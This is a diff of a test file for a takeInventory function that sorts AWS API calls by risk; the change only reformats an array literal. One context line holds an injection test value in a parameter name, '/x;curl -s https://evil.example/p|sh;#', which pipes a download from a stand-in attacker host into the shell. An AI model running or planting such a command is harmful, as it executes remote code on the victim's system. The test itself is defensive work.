@@ -124,7 +124,11 @@ describe('takeInventory', () => {
     const name = '/x;curl -s https://evil.example/p|sh;#';
     const inventory = await takeInventory(
       deps,
-      [summary([{ ...risky('GetParameters', [{ type: 'AWS::SSM::Parameter', name }]), category: 'credential-access' }])],
+      [
+        summary([
+          { ...risky('GetParameters', [{ type: 'AWS::SSM::Parameter', name }]), category: 'credential-access' },
+        ]),
+      ],
       'alice',
     );
 
